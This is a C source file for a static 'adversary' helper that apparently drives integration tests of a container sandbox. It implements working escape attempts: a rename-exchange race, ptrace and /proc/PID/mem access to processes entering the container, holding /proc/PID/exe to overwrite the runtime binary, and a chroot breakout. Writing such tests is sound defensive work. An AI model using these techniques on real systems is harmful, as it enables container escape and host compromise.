/* SPDX-License-Identifier: Apache-2.0 */
/* The other side of tests/integration/test_hull_attacks.py: what an attacker runs, in a container or beside it, where
 * Python would be too slow for a race. Static, so that it runs in any root file system.
 *
 *   adversary swap A B             exchange two names, until killed
 *   adversary watch [stop]         look into every process that comes, until killed: report on stdout what of it could
 *                                  be reached that is not the container's; with "stop" also stop and continue it
 *   adversary overwrite PID FIFO   hold /proc/PID/exe, let the process end by reading the FIFO, then write to the file
 *   adversary climb PATH           climb out of a chroot, and say whether PATH can be seen then */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static _Noreturn void swap(const char *a, const char *b)
{
	for (;;)
		renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void report(const char *what, pid_t pid, const char *detail)
{
	char line[PATH_MAX + 128];
	int n = snprintf(line, sizeof(line), "REACHED %s of %d: %s\n", what, (int)pid, detail);

	(void)!write(1, line, (size_t)n);
}

/* The programs of the container are busybox and this one; a process that shows another one is not in its exec yet. */
static bool is_ours(const char *exe)
{
	return strstr(exe, "/busybox") || strstr(exe, "/adversary");
}

static ssize_t link_at(int dir_fd, const char *name, char *out, size_t size)
{
	ssize_t n = readlinkat(dir_fd, name, out, size - 1);

	if (n >= 0)
		out[n] = '\0';
	return n;
}

/* Everything there is to take from a process that is just entering. Its program tells whether it still is what came
 * from outside, and is looked at before and after. */
static void probe(int dir_fd, pid_t pid)
{
	static const char *const files[] = { "exe", "cwd", "root", "mem", "environ", "maps", "fd", "ns/mnt" };
	char before[PATH_MAX] = "", after[PATH_MAX] = "", found[PATH_MAX];

	if (link_at(dir_fd, "exe", before, sizeof(before)) >= 0 && !is_ours(before))
		report("exe", pid, before);
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		int fd = openat(dir_fd, files[i],
				(strcmp(files[i], "mem") == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);

		if (fd < 0)
			continue;
		if (link_at(dir_fd, "exe", after, sizeof(after)) >= 0 && !is_ours(after))
			report(files[i], pid, after);
		close(fd);
	}
	for (int n = 3; n < 32; n++) {
		char name[16];

		snprintf(name, sizeof(name), "fd/%d", n);
		if (link_at(dir_fd, name, found, sizeof(found)) >= 0 &&
		    link_at(dir_fd, "exe", after, sizeof(after)) >= 0 && !is_ours(after))
			report(name, pid, found);
	}
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		if (link_at(dir_fd, "exe", after, sizeof(after)) >= 0 && !is_ours(after))
			report("ptrace", pid, after);
		kill(pid, SIGSTOP);
		/* Stopped, or at its end: then it is for us to reap, or its parent would wait for ever. */
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		kill(pid, SIGCONT);
	}
}

static int64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* A pid that was not there before: its directory in /proc is held, and tried again and again. */
static void pursue(pid_t pid, bool stops)
{
	char path[32], found[PATH_MAX];
	int64_t end = now_ms() + 60;
	int dir_fd;

	snprintf(path, sizeof(path), "/proc/%d", (int)pid);
	dir_fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dir_fd < 0)
		return;
	if (link_at(dir_fd, "exe", found, sizeof(found)) < 0)
		(void)!write(1, "MET\n", 4); /* in time: it is there and does not let itself be looked at */
	if (stops)
		kill(pid, SIGSTOP);
	while (now_ms() < end && faccessat(dir_fd, "stat", F_OK, 0) == 0)
		probe(dir_fd, pid);
	if (stops)
		kill(pid, SIGCONT);
	close(dir_fd);
}

#define PIDS 32768
static bool is_known[PIDS + 1];

/* Those that come are near the last one that was made: no directory has to be read. */
static _Noreturn void watch(bool stops)
{
	(void)!write(1, "WATCHING\n", 9);
	for (pid_t self = getpid();;) {
		for (pid_t pid = 1; pid < 400; pid++) {
			if (pid == self || is_known[pid] || (kill(pid, 0) < 0 && errno == ESRCH))
				continue;
			is_known[pid] = true;
			pursue(pid, stops && pid > self);
		}
	}
}

static int overwrite(const char *pid, const char *fifo)
{
	char path[64], byte;
	int fd, out, release;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("HELD NOT %s\n", strerror(errno));
		return 1;
	}
	printf("HELD\n");
	release = open(fifo, O_RDONLY | O_CLOEXEC);
	if (release >= 0)
		(void)!read(release, &byte, 1);
	snprintf(path, sizeof(path), "/proc/%s", pid);
	for (int i = 0; i < 500 && access(path, F_OK) == 0; i++)
		usleep(10000);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	out = open(path, O_WRONLY | O_CLOEXEC);
	if (out < 0) {
		printf("WRITE %s\n", strerror(errno));
		return 0;
	}
	printf("WRITE POSSIBLE\n");
	return 0;
}

static int climb(const char *path)
{
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	mkdir("/deeper", 0700);
	if (root < 0 || chroot("/deeper") < 0 || fchdir(root) < 0) {
		perror("climb");
		return 1;
	}
	for (int i = 0; i < 200; i++)
		(void)!chdir("..");
	if (chroot(".") < 0)
		perror("climb");
	printf(access(path, F_OK) == 0 ? "OUTSIDE\n" : "INSIDE\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		swap(argv[2], argv[3]);
	if (argc >= 2 && strcmp(argv[1], "watch") == 0)
		watch(argc > 2);
	if (argc == 4 && strcmp(argv[1], "overwrite") == 0)
		return overwrite(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "climb") == 0)
		return climb(argv[2]);
	fprintf(stderr, "usage: adversary swap|watch|overwrite|climb ...\n");
	return 2;
}
